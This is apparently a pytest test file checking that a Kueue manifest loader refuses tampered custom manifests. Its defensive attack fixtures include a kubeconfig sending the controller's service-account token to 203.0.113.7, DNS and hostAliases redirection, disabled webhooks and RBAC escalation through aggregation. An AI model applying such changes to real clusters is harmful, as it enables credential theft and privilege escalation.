"""Custom Kueue manifests against the genuine release (issue 24, items 3 and 6).

Every attack here starts from the pinned release as rendered from its module (the objects the
custom check compares with), changes what an attacker with write access to a stack file and a
manifest would, and is refused by load_release even with `kueue.manifest.custom: true` and a
reason, naming the object and the field. The release itself, parsed and dumped again in
another layout and key order, is accepted as the release without `custom`; a custom manifest
that only adds a ConfigMap, narrows RBAC or sets what a knob sets is accepted, and the
preview's provenance names it and what it changes.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from gpu_queues.config.model import KueueConfig
from gpu_queues.release.manifest import ManifestError, PreparedManifest, load_release
from gpu_queues.release.module import pinned_version, render_release
from gpu_queues.release.reference import PinnedReleases

pytestmark = pytest.mark.toolchain

ROOT = Path(__file__).resolve().parents[2]
VERSION = pinned_version()
NS = "kueue-system"
RBAC = "rbac.authorization.k8s.io/v1"
SA = {"kind": "ServiceAccount", "name": "kueue-controller-manager", "namespace": NS}
CUSTOM = {"custom": True, "reason": "attack under test"}
Objects = list[dict[str, Any]]


@pytest.fixture(scope="module")
def release() -> Objects:
    render_release(VERSION)  # `make kueue-manifest`: what a custom manifest is compared with
    return PinnedReleases(ROOT).objects(VERSION)


def _reordered(node: Any) -> Any:
    """The same data with every mapping's keys in reverse order."""
    if isinstance(node, dict):
        return {k: _reordered(node[k]) for k in reversed(list(node))}
    if isinstance(node, list):
        return [_reordered(i) for i in node]
    return node


def load(tmp_path: Path, objects: Objects, **manifest: Any) -> PreparedManifest:
    path = tmp_path / "manifests.yaml"
    text = yaml.safe_dump_all(_reordered(objects), sort_keys=False, indent=4, width=4096)
    path.write_text(text)
    config = KueueConfig.model_validate({"manifest": {"path": str(path), **manifest}})
    return load_release(config, ROOT)


def refusal(tmp_path: Path, objects: Objects, **manifest: Any) -> str:
    with pytest.raises(ManifestError) as info:
        load(tmp_path, objects, **manifest)
    return str(info.value)


# --- finding objects in the release --------------------------------------------------------


def obj(objects: Objects, kind: str, name: str) -> dict[str, Any]:
    return next(o for o in objects if o["kind"] == kind and o["metadata"]["name"] == name)


def pod(objects: Objects) -> dict[str, Any]:
    return obj(objects, "Deployment", "kueue-controller-manager")["spec"]["template"]["spec"]


def manager(objects: Objects) -> dict[str, Any]:
    return next(c for c in pod(objects)["containers"] if c["name"] == "manager")


def hook(objects: Objects, name: str) -> dict[str, Any]:
    for o in objects:
        for h in o.get("webhooks") or []:
            if h["name"] == name:
                return h
    raise KeyError(name)


def cluster_role(
    name: str,
    rules: list[Any],
    labels: dict[str, str] | None = None,
    selects: dict[str, str] | None = None,
) -> dict[str, Any]:
    role: dict[str, Any] = {
        "apiVersion": RBAC,
        "kind": "ClusterRole",
        "metadata": {"name": name, "labels": labels or {}},
        "rules": rules,
    }
    if selects is not None:
        role["aggregationRule"] = {"clusterRoleSelectors": [{"matchLabels": selects}]}
    return role


POD_WRITER = [
    {"apiGroups": [""], "resources": ["pods"], "verbs": ["create", "delete", "patch"]},
    {"apiGroups": ["apps"], "resources": ["daemonsets"], "verbs": ["create"]},
]


def config_map(name: str, data: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": name, "namespace": NS},
        "data": data,
    }


EVIL_KUBECONFIG = """\
apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://203.0.113.7"}}]
users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
"""


def _extra_config(objects: Objects) -> None:
    objects.append(config_map("kueue-extra", {"c.yaml": "manageJobsWithoutQueueName: true\n"}))
    pod(objects)["volumes"].append({"name": "extra", "configMap": {"name": "kueue-extra"}})
    manager(objects)["volumeMounts"].append({"name": "extra", "mountPath": "/extra"})
    manager(objects)["args"].append("--config=/extra/c.yaml")


def _kubeconfig_from_configmap(objects: Objects) -> None:
    objects.append(config_map("kueue-kubeconfig", {"config": EVIL_KUBECONFIG}))
    pod(objects)["volumes"].append({"name": "kc", "configMap": {"name": "kueue-kubeconfig"}})
    manager(objects)["volumeMounts"].append({"name": "kc", "mountPath": "/kc"})
    manager(objects).setdefault("env", []).append({"name": "KUBECONFIG", "value": "/kc/config"})


def _two_hop(objects: Objects) -> None:
    objects.append(
        cluster_role(
            "kueue-hop-one",
            [],
            {"rbac.authorization.k8s.io/aggregate-to-view": "true"},
            selects={"rbac.kueue.x-k8s.io/hop": "true"},
        )
    )
    objects.append(cluster_role("kueue-hop-two", POD_WRITER, {"rbac.kueue.x-k8s.io/hop": "true"}))


def _api_service(name: str, group: str, version: str, service: str) -> dict[str, Any]:
    return {
        "apiVersion": "apiregistration.k8s.io/v1",
        "kind": "APIService",
        "metadata": {"name": name},
        "spec": {
            "group": group,
            "version": version,
            "groupPriorityMinimum": 100,
            "versionPriority": 100,
            "service": {"name": service, "namespace": NS},
        },
    }


def _new_service_and_api_service(objects: Objects) -> None:
    service = copy.deepcopy(obj(objects, "Service", "kueue-webhook-service"))
    service["metadata"]["name"] = "kueue-config-server"
    objects.append(service)
    objects.append(
        _api_service(
            "v1beta1.config.kueue.x-k8s.io",
            "config.kueue.x-k8s.io",
            "v1beta1",
            "kueue-config-server",
        )
    )


def _foreign_webhook(resource: str, group: str) -> Callable[[Objects], None]:
    def change(objects: Objects) -> None:
        h = hook(objects, "vpod.kb.io")
        h["rules"].append(
            {
                "apiGroups": [group],
                "apiVersions": ["v1"],
                "operations": ["CREATE", "UPDATE"],
                "resources": [resource],
            }
        )

    return change


def _pod_webhook_loosened(objects: Objects) -> None:
    h = hook(objects, "mpod.kb.io")
    h["namespaceSelector"]["matchExpressions"][0]["values"] = ["kube-system"]
    h["rules"][0]["operations"].append("DELETE")
    h["timeoutSeconds"] = 30


def _manager_role_grants(objects: Objects) -> None:
    obj(objects, "ClusterRole", "kueue-manager-role")["rules"] += [
        {
            "apiGroups": [""],
            "resources": ["pods", "persistentvolumes", "serviceaccounts"],
            "verbs": ["create", "patch"],
        },
        {"apiGroups": ["apps"], "resources": ["daemonsets"], "verbs": ["create"]},
        {"apiGroups": [""], "resources": ["nodes"], "verbs": ["patch"]},
        {
            "apiGroups": ["apiextensions.k8s.io"],
            "resources": ["customresourcedefinitions"],
            "verbs": ["delete"],
        },
    ]


ATTACKS: list[Any] = [
    # the manager's command line and environment
    pytest.param(
        lambda o: manager(o)["args"].append("--kubeconfig=/evil"),
        'containers[manager].args[2] (release: absent; here: "--kubeconfig=/evil")',
        id="arg-kubeconfig",
    ),
    pytest.param(
        lambda o: manager(o).setdefault("env", []).append({"name": "KUBECONFIG", "value": "/evil"}),
        "containers[manager].env",
        id="env-kubeconfig",
    ),
    pytest.param(
        lambda o: manager(o)["args"].append("--feature-gates=Foo=true"),
        '"--feature-gates=Foo=true"',
        id="arg-feature-gates",
    ),
    pytest.param(_extra_config, "spec.template.spec.volumes[extra]", id="extra-mounted-config"),
    pytest.param(
        _kubeconfig_from_configmap,
        "spec.template.spec.volumes[kc]",
        id="kubeconfig-to-outside-host",
    ),
    pytest.param(
        lambda o: manager(o)["volumeMounts"].append(
            {"name": "visibility", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}
        ),
        "containers[manager].volumeMounts[visibility]",
        id="mount-over-token",
    ),
    pytest.param(
        lambda o: manager(o).update(
            lifecycle={"postStart": {"exec": {"command": ["/bin/sh", "-c", "x"]}}}
        ),
        "containers[manager].lifecycle",
        id="post-start",
    ),
    # the pod's scheduling and host fields
    pytest.param(
        lambda o: pod(o).update(
            hostAliases=[{"ip": "203.0.113.7", "hostnames": ["kubernetes.default.svc"]}]
        ),
        "spec.template.spec.hostAliases",
        id="host-aliases",
    ),
    pytest.param(
        lambda o: pod(o).update(dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.7"]}),
        "spec.template.spec.dnsPolicy",
        id="dns-config",
    ),
    pytest.param(
        lambda o: pod(o).update(shareProcessNamespace=True),
        "spec.template.spec.shareProcessNamespace",
        id="share-process-namespace",
    ),
    pytest.param(
        lambda o: pod(o).update(priorityClassName="system-node-critical"),
        "spec.template.spec.priorityClassName",
        id="priority-class",
    ),
    pytest.param(
        lambda o: pod(o).update(nodeName="control-plane-0"),
        "spec.template.spec.nodeName",
        id="node-name",
    ),
    pytest.param(
        lambda o: pod(o).update(runtimeClassName="unsandboxed"),
        "spec.template.spec.runtimeClassName",
        id="runtime-class",
    ),
    pytest.param(
        lambda o: pod(o)["securityContext"].update(runAsGroup=0),
        "spec.template.spec.securityContext.runAsGroup",
        id="run-as-group-0",
    ),
    # webhooks exactly as the release declares them
    pytest.param(
        lambda o: hook(o, "vpod.kb.io").update(failurePolicy="Ignore"),
        "webhooks[vpod.kb.io].failurePolicy",
        id="webhook-failure-policy",
    ),
    pytest.param(
        lambda o: hook(o, "vpod.kb.io").update(timeoutSeconds=30),
        "webhooks[vpod.kb.io].timeoutSeconds",
        id="webhook-timeout",
    ),
    pytest.param(
        lambda o: hook(o, "vpod.kb.io")["rules"][0]["operations"].append("DELETE"),
        "webhooks[vpod.kb.io].rules[0].operations[2]",
        id="webhook-operations",
    ),
    pytest.param(
        lambda o: hook(o, "mpod.kb.io").update(objectSelector={"matchLabels": {"app": "victim"}}),
        "webhooks[mpod.kb.io].objectSelector",
        id="webhook-object-selector",
    ),
    pytest.param(
        _pod_webhook_loosened, "webhooks[mpod.kb.io].namespaceSelector", id="pod-webhook-loosened"
    ),
    pytest.param(
        _foreign_webhook("storageclasses", "storage.k8s.io"),
        "webhooks[vpod.kb.io].rules[1]",
        id="webhook-storageclasses",
    ),
    pytest.param(
        _foreign_webhook("priorityclasses", "scheduling.k8s.io"),
        "webhooks[vpod.kb.io].rules[1]",
        id="webhook-priorityclasses",
    ),
    # RBAC after aggregation
    pytest.param(
        _two_hop,
        "the built-in ClusterRole view would grant create on pods (core)",
        id="two-hop-aggregation",
    ),
    pytest.param(
        lambda o: obj(o, "ClusterRole", "kueue-batch-user-role")["metadata"]["labels"].update(
            {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}
        ),
        "the built-in ClusterRole admin would grant create on jobs (batch)",
        id="batch-user-into-admin",
    ),
    pytest.param(
        _manager_role_grants,
        "ServiceAccount kueue-system/kueue-controller-manager would be granted patch "
        "on nodes (core) cluster-wide",
        id="manager-role-wider",
    ),
    # found while trying (item 6): an aggregating role's own rules hold until the aggregation
    # controller overwrites them, and the program's apply would keep writing them back
    pytest.param(
        lambda o: obj(o, "ClusterRole", "kueue-batch-user-role").update(rules=POD_WRITER),
        "ClusterRole kueue-batch-user-role would grant create on pods (core)",
        id="aggregating-role-own-rules",
    ),
    # APIServices and Services the release does not declare
    pytest.param(
        lambda o: o.append(
            _api_service(
                "v1beta2.kueue.x-k8s.io", "kueue.x-k8s.io", "v1beta2", "kueue-webhook-service"
            )
        ),
        "APIService v1beta2.kueue.x-k8s.io: the release",
        id="api-service-kueue",
    ),
    pytest.param(
        _new_service_and_api_service,
        "Service kueue-system/kueue-config-server: the release",
        id="new-service",
    ),
]


def _duplicate_controller(objects: Objects) -> None:
    evil = copy.deepcopy(obj(objects, "Deployment", "kueue-controller-manager"))
    manager([evil])["args"].append("--kubeconfig=/evil")
    objects.append(evil)


def _bind_controller(role: str) -> Callable[[Objects], None]:
    def change(objects: Objects) -> None:
        objects.append(
            {
                "apiVersion": RBAC,
                "kind": "ClusterRoleBinding",
                "metadata": {"name": "kueue-extra-rolebinding"},
                "roleRef": {
                    "apiGroup": "rbac.authorization.k8s.io",
                    "kind": "ClusterRole",
                    "name": role,
                },
                "subjects": [SA],
            }
        )

    return change


def _labelled_by_a_boolean(objects: Objects) -> None:
    # YAML `true`, not "true": a client that stringifies it makes the role aggregated
    objects.append(
        cluster_role("kueue-sneaky", POD_WRITER, {"rbac.kueue.x-k8s.io/batch-user": True})
    )


def _aggregate_and_bind(objects: Objects) -> None:
    # a new role collecting every batch-admin role, bound to the controller
    objects.append(
        cluster_role("kueue-all", [], selects={"rbac.kueue.x-k8s.io/batch-admin": "true"})
    )
    _bind_controller("kueue-all")(objects)


# Tried beyond the list (item 6): each is refused too.
OWN_ATTACKS: list[Any] = [
    pytest.param(
        lambda o: obj(o, "Deployment", "kueue-controller-manager")["spec"]["template"]["metadata"][
            "annotations"
        ].update({"container.apparmor.security.beta.kubernetes.io/manager": "unconfined"}),
        "spec.template.metadata.annotations",
        id="pod-annotation-apparmor",
    ),
    pytest.param(
        lambda o: (
            obj(o, "ServiceAccount", "kueue-controller-manager")["metadata"]
            .setdefault("annotations", {})
            .update({"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"})
        ),
        "ServiceAccount kueue-system/kueue-controller-manager differs from the release "
        f"{VERSION} at metadata.annotations",
        id="service-account-irsa",
    ),
    pytest.param(
        lambda o: obj(o, "Namespace", "kueue-system")["metadata"]["labels"].update(
            {"pod-security.kubernetes.io/enforce": "privileged", "istio-injection": "enabled"}
        ),
        'metadata.labels["pod-security.kubernetes.io/enforce"]',
        id="namespace-pod-security",
    ),
    pytest.param(
        lambda o: hook(o, "vpod.kb.io")["clientConfig"].update(caBundle="Zm9v"),
        "webhooks[vpod.kb.io].clientConfig.caBundle",
        id="webhook-ca-bundle",
    ),
    pytest.param(
        lambda o: hook(o, "vpod.kb.io").update(
            matchConditions=[{"name": "skip", "expression": "false"}]
        ),
        "webhooks[vpod.kb.io].matchConditions",
        id="webhook-match-conditions",
    ),
    pytest.param(
        lambda o: obj(o, "CustomResourceDefinition", "workloads.kueue.x-k8s.io")["spec"][
            "conversion"
        ]["webhook"]["clientConfig"]["service"].update(
            name="kueue-controller-manager-metrics-service"
        ),
        "spec.conversion.webhook.clientConfig.service.name",
        id="crd-conversion-service",
    ),
    pytest.param(
        lambda o: obj(o, "Service", "kueue-webhook-service")["spec"].update(
            selector={"app": "someone-else"}
        ),
        "spec.selector",
        id="webhook-service-selector",
    ),
    pytest.param(
        lambda o: pod(o)["securityContext"].update(runAsNonRoot="true"),
        "runAsNonRoot",
        id="string-for-a-boolean",
    ),
    pytest.param(
        lambda o: o.append(config_map("kube-root-ca.crt", {"ca.crt": "evil"})),
        "ConfigMap kueue-system/kube-root-ca.crt: would replace",
        id="root-ca-configmap",
    ),
    pytest.param(_duplicate_controller, "duplicate of document", id="duplicate-controller"),
    pytest.param(
        lambda o: obj(o, "ClusterRole", "kueue-batch-user-role")["aggregationRule"][
            "clusterRoleSelectors"
        ].append({"matchLabels": {"rbac.kueue.x-k8s.io/batch-admin": "true"}}),
        "ClusterRole kueue-batch-user-role would grant",
        id="widened-aggregation-rule",
    ),
    pytest.param(
        _bind_controller("kueue-batch-admin-role"),
        "ServiceAccount kueue-system/kueue-controller-manager would be granted",
        id="controller-bound-to-batch-admin",
    ),
    pytest.param(
        lambda o: o.append(
            cluster_role(
                "kueue-openshift",
                [],
                {"rbac.authorization.k8s.io/aggregate-to-cluster-reader": "true"},
            )
        ),
        "labelled rbac.authorization.k8s.io/aggregate-to-cluster-reader",
        id="unmodelled-aggregation-label",
    ),
    pytest.param(
        _labelled_by_a_boolean,
        "ClusterRole kueue-batch-user-role would grant",
        id="boolean-label-value",
    ),
    pytest.param(
        _aggregate_and_bind,
        "ServiceAccount kueue-system/kueue-controller-manager would be granted create on jobs",
        id="new-aggregator-bound-to-the-controller",
    ),
    pytest.param(
        lambda o: (
            obj(o, "ClusterRole", "kueue-manager-role")["metadata"]
            .setdefault("labels", {})
            .update({"rbac.kueue.x-k8s.io/batch-admin": "true"})
        ),
        "ClusterRole kueue-batch-admin-role would grant get on limitranges (core)",
        id="manager-role-into-batch-admin",
    ),
    pytest.param(
        lambda o: (
            obj(o, "ValidatingWebhookConfiguration", "kueue-validating-webhook-configuration")[
                "metadata"
            ]
            .setdefault("annotations", {})
            .update({"cert-manager.io/inject-ca-from": "kueue-system/evil"})
        ),
        "ValidatingWebhookConfiguration kueue-validating-webhook-configuration differs from the "
        f"release {VERSION} at metadata.annotations",
        id="webhook-ca-injection",
    ),
    pytest.param(
        lambda o: obj(o, "ClusterRoleBinding", "kueue-manager-rolebinding")["roleRef"].update(
            name="kueue-batch-admin-role"
        ),
        "ServiceAccount kueue-system/kueue-controller-manager would be granted create on jobs",
        id="manager-binding-to-batch-admin",
    ),
    pytest.param(
        _bind_controller("kueue-metrics-reader"),
        "would be granted get on /metrics cluster-wide",
        id="controller-bound-to-metrics-reader",
    ),
    pytest.param(
        lambda o: obj(o, "ConfigMap", "kueue-manager-config")["data"].update(
            {"other.yaml": "manageJobsWithoutQueueName: true\n"}
        ),
        'data["other.yaml"]',
        id="manager-configmap-extra-key",
    ),
]


@pytest.mark.parametrize(("attack", "named"), OWN_ATTACKS)
def test_an_attack_of_our_own_is_refused_even_as_a_custom_manifest(
    tmp_path: Path, release: Objects, attack: Callable[[Objects], None], named: str
) -> None:
    test_an_attack_is_refused_even_as_a_custom_manifest(tmp_path, release, attack, named)


@pytest.mark.parametrize(("attack", "named"), ATTACKS)
def test_an_attack_is_refused_even_as_a_custom_manifest(
    tmp_path: Path, release: Objects, attack: Callable[[Objects], None], named: str
) -> None:
    changed = copy.deepcopy(release)
    attack(changed)
    not_custom = refusal(tmp_path, changed)
    assert "set gpu-queues:kueue.manifest.custom: true" in not_custom
    message = refusal(tmp_path, changed, **CUSTOM)
    assert "nothing was applied" in message
    assert named in message, message


def test_the_release_reserialized_is_the_release_without_custom(
    tmp_path: Path, release: Objects
) -> None:
    prepared = load(tmp_path, release)
    text = (tmp_path / "manifests.yaml").read_text()
    assert text != (ROOT / ".kueue" / VERSION / "manifests.yaml").read_text()
    assert prepared.genuine
    assert prepared.provenance.endswith(f"the release {VERSION}, object for object")
    # marked custom, the release is still the release
    assert load(tmp_path, release, **CUSTOM).genuine


def test_a_copy_the_yaml_emitter_changed_is_not_the_release(
    tmp_path: Path, release: Objects
) -> None:
    # PyYAML's emitter folds some long double-quoted strings at indent 4 so that they read
    # back with a backslash in them: the data changed, and the manifest is not the release.
    path = tmp_path / "manifests.yaml"
    path.write_text(yaml.safe_dump_all(release, sort_keys=True, indent=4))
    with pytest.raises(ManifestError) as info:
        load_release(KueueConfig.model_validate({"manifest": {"path": str(path)}}), ROOT)
    assert "The first difference: CustomResourceDefinition" in str(info.value)
    assert ".description (release: " in str(info.value)


def test_a_custom_manifest_within_the_rules_is_accepted_and_named(
    tmp_path: Path, release: Objects
) -> None:
    changed = copy.deepcopy(release)
    changed.append(config_map("kueue-dashboards", {"board.json": "{}"}))
    # narrower RBAC: the manager may no longer delete podtemplates
    role = obj(changed, "ClusterRole", "kueue-manager-role")
    for rule in role["rules"]:
        if rule["resources"] == ["podtemplates"]:
            rule["verbs"].remove("delete")
    # what the knobs set (the stack sets them too)
    pod(changed)["nodeSelector"] = {"pool": "system"}
    obj(changed, "Deployment", "kueue-controller-manager")["spec"]["replicas"] = 3
    prepared = load_release(
        KueueConfig.model_validate(
            {
                "manifest": {"path": str(_write(tmp_path, changed)), **CUSTOM},
                "controller": {"replicas": 2, "nodeSelector": {"pool": "gpu-system"}},
            }
        ),
        ROOT,
    )
    assert not prepared.genuine
    assert prepared.provenance is not None
    assert "a custom manifest (gpu-queues:kueue.manifest.custom: attack under test)" in (
        prepared.provenance
    )
    assert "ConfigMap kueue-system/kueue-dashboards (added)" in prepared.provenance
    assert "ClusterRole kueue-manager-role (rules[" in prepared.provenance
    deployment = obj(list(prepared.objects), "Deployment", "kueue-controller-manager")
    assert deployment["spec"]["replicas"] == 2  # the stack's knob, not the manifest's
    assert deployment["spec"]["template"]["spec"]["nodeSelector"] == {"pool": "gpu-system"}


def test_a_second_binding_granting_nothing_new_is_accepted(
    tmp_path: Path, release: Objects
) -> None:
    changed = copy.deepcopy(release)
    binding = copy.deepcopy(obj(changed, "RoleBinding", "kueue-visibility-server-auth-reader"))
    binding["metadata"]["name"] = "kueue-visibility-server-auth-reader-2"
    changed.append(binding)
    prepared = load(tmp_path, changed, **CUSTOM)
    assert "RoleBinding kube-system/kueue-visibility-server-auth-reader-2 (added)" in (
        prepared.provenance or ""
    )


def test_a_knob_field_changed_in_the_manifest_alone_is_refused(
    tmp_path: Path, release: Objects
) -> None:
    changed = copy.deepcopy(release)
    pod(changed)["nodeSelector"] = {"node-role.kubernetes.io/control-plane": ""}
    message = refusal(tmp_path, changed, **CUSTOM)
    assert "spec.template.spec.nodeSelector" in message


def test_a_custom_manifest_without_the_rendered_release_is_refused(
    tmp_path: Path, release: Objects
) -> None:
    changed = copy.deepcopy(release)
    changed.append(config_map("kueue-dashboards", {"board.json": "{}"}))
    path = _write(tmp_path, changed)
    config = KueueConfig.model_validate({"manifest": {"path": str(path), **CUSTOM}})
    elsewhere = tmp_path / "checkout"  # no .kueue/<version>/manifests.yaml there
    with pytest.raises(ManifestError, match=r"not available: .*Run `make kueue-manifest`"):
        load_release(config, ROOT, PinnedReleases(elsewhere))
    # nor with a file at that path that is not the release's render
    fake = elsewhere / ".kueue" / VERSION / "manifests.yaml"
    fake.parent.mkdir(parents=True)
    fake.write_bytes(path.read_bytes())
    with pytest.raises(ManifestError, match=r"so it is not the release"):
        load_release(config, ROOT, PinnedReleases(elsewhere))


def _write(tmp_path: Path, objects: Objects) -> Path:
    path = tmp_path / "custom.yaml"
    path.write_text(yaml.safe_dump_all(objects, sort_keys=False, width=4096))
    return path


def _leaf_paths(node: Any, path: str = "") -> set[str]:
    """Field paths as the docs table writes them: list items by name, scalar lists whole."""
    if isinstance(node, dict):
        out: set[str] = set()
        for key, value in node.items():
            out |= _leaf_paths(value, f"{path}.{key}" if path else str(key))
        return out
    if isinstance(node, list):
        out = set()
        for item in node:
            name = item.get("name") if isinstance(item, dict) else None
            out |= _leaf_paths(item, f"{path}[{name}]" if name else path)
        return out
    return {path}


def test_every_field_of_the_release_pod_has_a_rule_in_the_docs(release: Objects) -> None:
    """Issue 24, item 5: docs/kueue-manifest.md's table lists every field the release's
    Deployment sets, each with its rule."""
    docs = (ROOT / "docs" / "kueue-manifest.md").read_text()
    table = docs[docs.index("### The controller's pod, field by field") :]
    rows = {}
    for line in table.splitlines():
        cells = [c.strip() for c in line.strip("|").split("|")]
        if len(cells) == 3 and cells[0].startswith("`"):
            rows[cells[0].strip("`")] = cells[2]
    deployment = obj(release, "Deployment", "kueue-controller-manager")
    missing = sorted(_leaf_paths(deployment) - rows.keys())
    assert missing == [], f"fields of the release's Deployment without a row: {missing}"
    assert all(rule.startswith(("equal", "knob: ", "refused")) for rule in rows.values())
